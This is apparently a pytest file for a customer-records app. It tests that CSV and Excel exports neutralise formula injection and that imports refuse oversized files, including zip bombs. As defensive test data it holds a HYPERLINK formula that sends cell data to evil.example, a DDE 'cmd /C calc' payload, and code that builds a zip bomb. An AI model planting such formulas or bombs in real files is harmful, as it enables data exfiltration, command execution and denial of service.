"""Files in and out, safely: exports a spreadsheet cannot run, imports bounded in time and memory for any file.

Real CSV and Excel files, real DuckDB and PostgreSQL stores, the command line as a real process whose peak
memory is read from the kernel (``os.wait4``)."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from customercard.errors import CustomerCardError
from customercard.importexport import export_contacts, export_customers, import_customers
from customercard.models import Contact
from customercard.spreadsheets import LIMITS, safe_cell, safe_frame, unescape_cell
from customercard.store import Store
from customercard.ui.customer_list import CustomerList

from .conftest import copy_database
from .test_importexport import se_org_number, write_csv

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"Details")'


# -- the cell rules ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("text, written", [
    (HYPERLINK, "'" + HYPERLINK), ("+46 8 123 45 67", "'+46 8 123 45 67"), ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "\n=1"), ("\x01=1", "'=1"),
    ("'=1", "''=1"), ("''+1", "'''+1"),
    ("'s-Hertogenbosch", "'s-Hertogenbosch"), ("Acme AB", "Acme AB"), ("Bad\x01Value\x00", "BadValue"),
    ("", ""),
])
def test_formula_starts_get_an_apostrophe_and_control_characters_go(text, written):
    assert safe_cell(text) == written


@pytest.mark.parametrize("value", [HYPERLINK, "+46 8 123 45 67", "'=x", "''=x", "'s-Hertogenbosch", "'", "-", "plain",
                                   "@", "a=b", "x\ty"])
def test_an_exported_text_reads_back_as_it_was(value):
    assert unescape_cell(safe_cell(value)) == value


def test_numbers_stay_numbers():
    frame = pd.DataFrame({"Amount": [-5.5, 1200.0], "Count": [-1, 2], "Text": ["-5", "=1"], "Yes": [True, False]})
    safe = safe_frame(frame)
    assert list(safe["Amount"]) == [-5.5, 1200.0] and list(safe["Count"]) == [-1, 2]
    assert list(safe["Text"]) == ["'-5", "'=1"] and list(safe["Yes"]) == [True, False]
    assert safe["Amount"].dtype == "float64" and safe["Count"].dtype == "int64"


# -- exports ---------------------------------------------------------------------------------------------------
@pytest.fixture
def tricky(empty_store: Store) -> Store:
    """A firm with a customer named like a formula and one holding a control character put there with SQL, as
    an older version, which checked no characters, could have done."""
    evil = empty_store.create_customer(user="anna", name=HYPERLINK, nickname="@SUM(A1)", phone="+46 8 123 45 67",
                                       **{"visit_address.city": "'s-Hertogenbosch", "visit_address.line1": "-2+3",
                                          "visit_address.country": "SE", "default_distance_km": 12.5})
    old = empty_store.create_customer(user="anna", name="Old Data AB")
    empty_store.db.execute("UPDATE customers SET nickname = ? WHERE id = ?", ["Bad\x01Value", old.id])
    contact = empty_store.create_contact(Contact(customer_id=evil.id, first_name="=cmd|' /C calc'!A0",
                                                 last_name="Berg", mobile="+46 70 123 45 67"), user="anna")
    empty_store.db.execute("UPDATE contacts SET notes = ? WHERE id = ?", ["Note\x01 with\x02 control", contact.id])
    return empty_store


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_rows(data: bytes) -> tuple[list[str], list[list[openpyxl.cell.Cell]]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    rows = list(sheet.iter_rows())
    assert not [c.coordinate for row in rows for c in row if c.data_type == "f"], "a cell holds a formula"
    return [c.value for c in rows[0]], rows[1:]


def _exports(store: Store, tmp_path: Path) -> dict[str, bytes]:
    """Every way customers leave the system: the export command's function and Search customers' buttons."""
    export_customers(store, tmp_path / "customers.csv")
    export_customers(store, tmp_path / "customers.xlsx")
    search = CustomerList(store=store)
    return {"customers.csv": (tmp_path / "customers.csv").read_bytes(),
            "customers.xlsx": (tmp_path / "customers.xlsx").read_bytes(),
            "search.csv": search.export_file("csv").getvalue(), "search.xlsx": search.export_file("xlsx").getvalue()}


def test_exports_write_formula_like_names_as_text_and_drop_control_characters(tricky: Store, tmp_path: Path):
    files = _exports(tricky, tmp_path)
    for kind in ("customers", "search"):
        rows = {row["Name"]: row for row in _csv_rows(files[f"{kind}.csv"])}
        assert set(rows) == {"'" + HYPERLINK, "Old Data AB"}, kind
        assert rows["'" + HYPERLINK]["Nickname"] == "'@SUM(A1)" and rows["Old Data AB"]["Nickname"] == "BadValue"
        assert rows["'" + HYPERLINK]["Phone"] == "'+46 8 123 45 67"

        headers, cells = _xlsx_rows(files[f"{kind}.xlsx"])
        by_name = {row[headers.index("Name")].value: row for row in cells}
        evil = by_name["'" + HYPERLINK]
        name = evil[headers.index("Name")]
        assert name.data_type == "s" and name.value.startswith("'=HYPERLINK(")
        assert by_name["Old Data AB"][headers.index("Nickname")].value == "BadValue"
        number = evil[headers.index("Customer number" if kind == "customers" else "Number")]
        assert isinstance(number.value, int) and number.data_type == "n"  # numbers stay numbers
    headers, cells = _xlsx_rows(files["customers.xlsx"])
    assert cells[0][headers.index("Default distance (km)")].value == 12.5
    assert cells[0][headers.index("City")].value == "'s-Hertogenbosch"  # not formula-like: as it is


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_contacts_export_is_safe_too(tricky: Store, tmp_path: Path, suffix: str):
    path = tmp_path / f"contacts{suffix}"
    assert export_contacts(tricky, path) == 1
    frame = pd.read_csv(path, dtype=str, encoding="utf-8-sig") if suffix == ".csv" else \
        pd.read_excel(path, dtype=str)
    row = frame.iloc[0]
    assert (row["First name"], row["Mobile"], row["Notes"]) == ("'=cmd|' /C calc'!A0", "'+46 70 123 45 67",
                                                                 "Note with control")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_export_imports_back_to_the_same_values(tricky: Store, empty_template: Path, tmp_path: Path,
                                                   suffix: str):
    path = tmp_path / f"customers{suffix}"
    export_customers(tricky, path)
    with Store(copy_database(empty_template, tmp_path / "again")) as again:
        report = import_customers(again, path, user="anna")
        assert report.ok, report.summary()
        found = {c.name: c for c in (again.get_customer(i) for i in report.created)}
    evil = found[HYPERLINK]
    assert (evil.nickname, evil.phone, evil.visit_address.city, evil.visit_address.line1) == (
        "@SUM(A1)", "+46 8 123 45 67", "'s-Hertogenbosch", "-2+3")
    assert found["Old Data AB"].nickname == "BadValue"


# -- imports: bounded for any file ---------------------------------------------------------------------------
def run_measured(folder: Path, *args: str) -> tuple[int, str, str, float]:
    """Run ``customercard ARGS`` and return (exit code, stdout, stderr, the process's peak memory in MB)."""
    with (folder / "stdout").open("w+") as out, (folder / "stderr").open("w+") as err:
        process = subprocess.Popen([sys.executable, "-m", "customercard", *args], stdin=subprocess.DEVNULL,
                                   stdout=out, stderr=err)
        deadline = time.monotonic() + 120
        while not (found := os.wait4(process.pid, os.WNOHANG))[0]:
            if time.monotonic() > deadline:  # (a bound for the test itself, not a timing assertion)
                process.kill()
                found = os.wait4(process.pid, 0)
                break
            time.sleep(0.05)
        _pid, status, usage = found
        process.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        return process.returncode, out.read(), err.read(), usage.ru_maxrss / 1024


@pytest.fixture
def cli_db(empty_template: Path, tmp_path: Path) -> str:
    return str(copy_database(empty_template, tmp_path / "cli"))


def _bounded_refusal(cli_db: str, tmp_path: Path, path: Path, expected: str) -> None:
    """The file is refused with one line saying why, using at most 200 MB more than a one-row file's import."""
    small = write_csv(tmp_path / "small.csv", [["Name"], ["Small AB"]])
    code, _out, _err, baseline = run_measured(tmp_path, "--db", cli_db, "import", "--dry-run", str(small))
    assert code == 0
    code, out, err, peak = run_measured(tmp_path, "--db", cli_db, "import", "--dry-run", str(path))
    assert code == 1 and out == "" and "Traceback" not in err, err
    assert len(err.strip().splitlines()) == 1 and expected in err, err
    assert peak - baseline < 200, f"{peak:.0f} MB against {baseline:.0f} MB for a one-row file"


def test_a_small_workbook_with_a_2_mb_cell_is_refused_with_bounded_memory(cli_db: str, tmp_path: Path):
    book = openpyxl.Workbook()
    book.active.append(["Name", "City"])
    book.active.append(["PLACEHOLDER", "Lund"])  # (openpyxl itself cuts a cell at 32,767 characters)
    book.save(tmp_path / "plain.xlsx")
    path = tmp_path / "crafted.xlsx"
    with zipfile.ZipFile(tmp_path / "plain.xlsx") as plain, \
            zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as crafted:
        for member in plain.infolist():
            crafted.writestr(member.filename, plain.read(member).replace(b"PLACEHOLDER", b"A" * 2_000_000))
    assert path.stat().st_size < 20_000  # a few kilobytes that unpack to a 2 MB name
    _bounded_refusal(cli_db, tmp_path, path, "crafted.xlsx: the cell at row 2, column A holds 2,000,000 characters; "
                                             "a cell may hold at most 32,767")


def test_a_csv_with_a_huge_field_is_refused_with_bounded_memory(cli_db: str, tmp_path: Path):
    path = tmp_path / "huge-field.csv"
    path.write_text("Name,City\nAcme AB,Lund\n\"" + "Ab cd " * 20_000 + "\",Malmö\n", encoding="utf-8")
    assert 110_000 < path.stat().st_size < 130_000
    _bounded_refusal(cli_db, tmp_path, path, "huge-field.csv: the cell at row 3 holds more than 32,767 characters; "
                                             "a cell may hold at most 32,767")


def test_a_zip_bomb_is_refused_before_anything_is_unpacked(cli_db: str, tmp_path: Path):
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive, \
            archive.open("xl/worksheets/sheet1.xml", "w") as member:
        for _ in range(150):
            member.write(b" " * (1024 * 1024))
    assert path.stat().st_size < 1_000_000
    _bounded_refusal(cli_db, tmp_path, path, "bomb.xlsx unpacks to 150.0 MB; an import opens workbooks of at most "
                                             "100.0 MB unpacked")


def test_files_beyond_the_size_row_and_column_limits_are_refused(empty_store: Store, tmp_path: Path):
    big = tmp_path / "big.csv"
    with big.open("w") as handle:
        handle.write("Name\n")
        for index in range(LIMITS.file_bytes // 20 + 1):
            handle.write(f"Customer {index:09d} AB\n")
    with pytest.raises(CustomerCardError, match=r"big.csv is 2\d\.\d MB; an import reads files of at most 20.0 MB"):
        import_customers(empty_store, big, user="anna", dry_run=True)
    many = write_csv(tmp_path / "many.csv", [["Name"]] + [[f"Customer {i} AB"] for i in range(LIMITS.rows + 1)])
    with pytest.raises(CustomerCardError, match=re.escape("many.csv has more than 10,000 rows")):
        import_customers(empty_store, many, user="anna", dry_run=True)
    wide = write_csv(tmp_path / "wide.csv", [["Name"] + [""] * 400, ["Acme AB"] + [""] * 399 + ["x"]])
    with pytest.raises(CustomerCardError, match="row 2 has more than 300 columns"):
        import_customers(empty_store, wide, user="anna", dry_run=True)
    book = openpyxl.Workbook()
    book.active.append(["Name"])
    book.active.cell(row=2, column=1, value="Acme AB")
    book.active.cell(row=2, column=5000, value="far away")
    book.save(tmp_path / "wide.xlsx")
    with pytest.raises(CustomerCardError, match="row 2 has more than 300 columns"):
        import_customers(empty_store, tmp_path / "wide.xlsx", user="anna", dry_run=True)


def test_each_cell_is_checked_against_its_field_before_anything_else(demo_store: Store, tmp_path: Path):
    existing = demo_store.sql("SELECT name FROM customers WHERE NOT archived ORDER BY id LIMIT 1")["name"][0]
    long_name = existing + " x" * 150  # over 200 characters, and a similar name if it were searched
    rows = [["Name", "Phone", "Industry", "Size", "Default distance (km)"],
            [long_name, "", "", "", ""],
            ["Fine AB", "1" * 101, "i" * 101, "s" * 101, "9" * 101],
            [existing, "", "", "", ""]]
    report = import_customers(demo_store, write_csv(tmp_path / "long.csv", rows), user="anna", dry_run=True)
    problems = {(row, column): message for row, column, message in report.problems}
    assert problems == {(2, "Name"): "At most 200 characters.", (3, "Phone"): "At most 100 characters.",
                        (3, "Industry"): "At most 100 characters.",
                        (3, "Size"): f"“{'s' * 59}…”: At most 100 characters.",
                        (3, "Default distance (km)"): "At most 100 characters."}
    assert {row for row, *_rest in report.duplicates} == {4}  # the refused rows were not searched for


def test_a_two_thousand_row_dry_run_completes(demo_store: Store, tmp_path: Path):
    names = list(demo_store.sql("SELECT name FROM customers WHERE merged_into IS NULL ORDER BY id")["name"])
    rows = [["Name", "Org number", "City", "Phone", "E-mail", "Industry"]]
    rows += [[f"Importbolaget {index:04d} AB", se_org_number(f"5599{index:05d}"), "Lund", f"046-{100_000 + index}",
              f"info{index}@example.se", "Consulting"] for index in range(2_000 - len(names))]
    rows += [[name, "", "", "", "", ""] for name in names]
    report = import_customers(demo_store, write_csv(tmp_path / "two-thousand.csv", rows), user="anna",
                              dry_run=True)
    assert report.rows == 2_000 and report.ok, report.summary()[:2000]
    assert {row for row, existing, *_rest in report.duplicates if existing is not None} >= set(
        range(2_002 - len(names), 2_002))  # every existing customer's name is found again

